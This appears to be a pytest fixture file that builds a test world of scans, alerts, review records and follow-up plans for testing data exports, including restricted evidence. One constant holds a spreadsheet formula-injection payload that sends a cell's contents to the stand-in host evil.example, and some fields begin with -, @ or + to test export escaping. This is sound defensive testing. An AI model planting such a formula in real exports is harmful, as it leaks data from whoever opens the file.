"""A small world for exports: scans, alerts, actions and review records in countries A and B
(region A) and C (region B), with restricted evidence, and text that a spreadsheet would run."""

import datetime as dt
from dataclasses import dataclass

import pytest

from followup import services as followup
from hruf.models import Entity, Role
from reviews import services as reviews
from reviews.models import Decision
from scans import services as scans
from scans.models import Rating
from scans.periods import Period

from ..factories import UserFactory, file_scan, grant

NOW = dt.datetime(2026, 9, 25, 12, tzinfo=dt.UTC)
TODAY = NOW.date()
Q2, Q3 = Period.parse("2026-Q2"), Period.parse("2026-Q3")
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture(autouse=True)
def _private_files_and_clock(settings, tmp_path, time_machine):
    settings.MEDIA_ROOT = tmp_path / "files"
    time_machine.move_to(NOW, tick=False)


@dataclass
class World:
    scan_a: object
    scan_b: object
    scan_c: object
    alert_a: object
    alert_b: object
    action_a: object
    action_c: object
    item_a: object


@pytest.fixture
def world(matrix, country_a, country_b, country_c, officer_a, officer_b, chair_a, eosg, owner):
    officer_c = grant(UserFactory(username="officer_c"), Role.OFFICER, country=country_c)
    # Country A: Q2 open evidence that starts a formula; Q3 with every rating restricted and a
    # case-specific indicator.
    file_scan(country_a, officer_a, Q2, rating=1, evidence=FORMULA)
    scans.case_indicator_add(country=country_a, actor=officer_a, name="Clashes between herders and farmers")
    scan_a = file_scan(country_a, officer_a, Q3, rating=3, restricted=True, evidence="SECRET-A witness name")
    # One rating of A's Q3 scan is open evidence, so restricted and open sit side by side.
    Rating.objects.filter(revision=scan_a.submitted_revision, indicator__position=1).update(
        restricted=False, evidence="OPEN-A market burned"
    )
    scan_b = file_scan(country_b, officer_b, Q3, rating=2, restricted=True, evidence="SECRET-B witness name")
    scan_c = file_scan(country_c, officer_c, Q3, rating=1, evidence="OPEN-C quiet")
    alert_a = scans.alert_raise(
        country=country_a, actor=officer_a, title="-1 attack on the market", location="@North", severity="severe",
        description="Seen at dawn.", evidence="ALERT-SECRET-A names", evidence_restricted=True,
    )
    alert_b = scans.alert_raise(
        country=country_b, actor=officer_b, title="Roadblocks", location="East", severity="serious",
        description="d", evidence="ALERT-OPEN-B photos", evidence_restricted=False,
    )
    scans.alert_raise(
        country=country_c, actor=officer_c, title="ALERT-C", location="South", severity="serious", description="d",
    )
    rqr = reviews.rqr_create(actor=chair_a, region=country_a.region, quarter=Q3, date=TODAY, chair=chair_a)
    item_a = rqr.items.get(country=country_a)
    rqr.refresh_from_db()
    reviews.agenda_publish(meeting=rqr, actor=chair_a, lock_version=rqr.lock_version)
    item_a.refresh_from_db()
    item_a = reviews.item_record(
        item=item_a, actor=chair_a, lock_version=item_a.lock_version, summary="+Discussed at length",
        agreed_tier="high", agreed_tier_reason="Army left the north", decision=Decision.PLAN, decision_reason="",
        dissent="DPPA disagreed",
    )
    ohchr = Entity.objects.get(code="OHCHR")
    plan_a = followup.plan_create(
        country=country_a, actor=eosg, title="Protect witnesses", source_item=item_a, today=TODAY,
        actions=[followup.ActionDraft(title="Deploy monitors", lead_entity=ohchr, owner=owner,
                                      deadline=TODAY + dt.timedelta(days=30))],
    )
    action_a = plan_a.actions.get()
    first = followup.benchmark_add(actor=owner, action=action_a, description="Team named", due_date=TODAY + dt.timedelta(days=5))
    followup.benchmark_add(actor=owner, action=action_a, description="Team on site", due_date=TODAY + dt.timedelta(days=20))
    followup.benchmark_meet(benchmark=first, actor=owner, evidence="Names sent")
    plan_c = followup.plan_create(
        country=country_c, actor=eosg, title="Plan C", source_alert=scans.alert_raise(
            country=country_c, actor=officer_c, title="t", location="l", severity="severe", description="d"),
        today=TODAY,
        actions=[followup.ActionDraft(title="Engage the authorities of C", lead_entity=ohchr, owner=owner,
                                      deadline=TODAY + dt.timedelta(days=10))],
    )
    return World(scan_a, scan_b, scan_c, alert_a, alert_b, action_a, plan_c.actions.get(), item_a)
